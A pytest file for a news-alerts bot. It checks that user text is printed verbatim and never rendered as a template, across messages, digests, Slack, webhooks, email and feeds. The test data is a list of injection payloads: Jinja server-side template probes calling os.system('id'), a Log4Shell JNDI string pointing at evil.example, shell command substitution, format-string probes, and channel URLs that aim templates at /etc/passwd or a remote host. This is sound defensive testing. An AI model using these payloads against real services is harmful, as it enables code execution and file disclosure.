"""E8: titles, authors and terms that look like templates are printed as typed. Users have no templates, either."""

from __future__ import annotations

import json
from importlib import import_module

import pytest

from newsbot.alerts.channel import Channel, ChannelError
from newsbot.alerts.feeds import Feed, Item, atom, json_feed
from newsbot.alerts.message import alarm_message, digest_of, message_of
from newsbot.alerts.sender import check, send
from tests.alerts.examples import NOW, a_place, a_service, a_webhook, an_alarm, an_alert
from tests.alerts.receivers import HOST, Answer, receiving, taking_mail
from tests.hostile.services import UNSEEN

TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% import os %}{{os.system('id')}}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %n %x",
    "%(title)s %(secret)s",
    "{0.__class__.__init__.__globals__}",
    "{title!r:>99999999}",
    "$title ${title}",
    "@{7*7} *{7*7} ~{7*7}",
    "\\n \\x41 \\u0041 \\N{BULLET}",
    "${jndi:ldap://evil.example/a}",
    "`id` $(id)",
    "{{app_title}} {{app_body}} {{ app_url }}",
    ":fire: :100:",
)


@pytest.mark.parametrize("written", TEMPLATES)
def test_e8_every_message_shows_what_was_typed(written: str) -> None:
    """In title, author, section, sentence, watch and query; of alerts, digests and alarms."""
    alert = an_alert(
        watch=written,
        query=written,
        title=written,
        authors=(written,),
        section=written,
        places=(a_place(form=written, sentence=f"He said {written} twice."),),
    )
    texts = [message_of(alert).text, digest_of([alert], key="d").text, alarm_message(an_alarm(says=written)).text]
    assert [written in text for text in texts] == [True, True, True]
    assert f"He said «{written}» twice." in texts[0] or f"He said {written} twice." in texts[0]
    assert written in message_of(alert).title


@pytest.mark.parametrize("written", TEMPLATES)
def test_e8_every_channel_carries_what_was_typed(monkeypatch: pytest.MonkeyPatch, written: str) -> None:
    """Apprise has templates, escapes and names of pictures of its own: none of them is asked for."""
    message = message_of(an_alert(title=written))
    with receiving(lambda _: Answer(body=b"ok")) as receiver, taking_mail() as postbox:
        monkeypatch.setattr(
            import_module("apprise.plugins.slack").NotifySlack, "webhook_url", f"http://{HOST}:{receiver.port}"
        )
        for channel in (
            a_webhook(receiver.port),
            a_service(f"json://{HOST}:{receiver.port}/x"),
            a_service("slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/"),
            a_service(f"mailto://{HOST}:{postbox.port}?from=n@gazette.example&to=ada@gazette.example&format=text"),
        ):
            send(channel, message, "key", now=NOW, allow_private=(HOST,))
    hook, plain, slack = (json.loads(request.body) for request in receiver.got)
    assert hook["article"]["title"] == written
    assert plain["title"].replace(UNSEEN, "") == f"desert: {written}"
    escaped = written.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert slack["attachments"][0]["title"].replace(UNSEEN, "") == f"desert: {escaped}"
    assert len(postbox.mails) == 1


@pytest.mark.parametrize("written", TEMPLATES)
def test_e8_every_feed_carries_what_was_typed(written: str) -> None:
    """Atom and JSON Feed."""
    feed = Feed(key="watch/x", title=written, items=(Item(key="k", title=written, url=None, updated=NOW),))
    assert json.loads(json_feed(feed))["items"][0]["title"] == written
    assert written.replace("<", "&lt;").replace(">", "&gt;").encode() in atom(feed)


@pytest.mark.parametrize(
    "url",
    [
        "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/?template=/etc/passwd",
        "discord://4174216298/JHMHI8qBe7bk2ZwO5U711o3dV_js/?template=https://evil.example/t.json",
        "tgram://123456789:abcdefg_hijklmnop/12315544/?Template=t.json",
    ],
)
def test_e8_a_channel_has_no_template(url: str) -> None:
    """Some services of Apprise's read one, from a file or from the web."""
    with pytest.raises(ChannelError, match="newsbot writes its own messages"):
        check(a_service(url))


def test_e8_a_webhooks_address_is_no_template() -> None:
    """It is asked for as it stands."""
    with receiving() as receiver:
        url = f"http://{HOST}:{receiver.port}/%7B%7B7*7%7D%7D?x=$(id)"
        send(Channel(name="x", kind="webhook", url=url), message_of(an_alert()), "k", now=NOW, allow_private=(HOST,))
    assert receiver.got[0].path == "/%7B%7B7*7%7D%7D?x=$(id)"
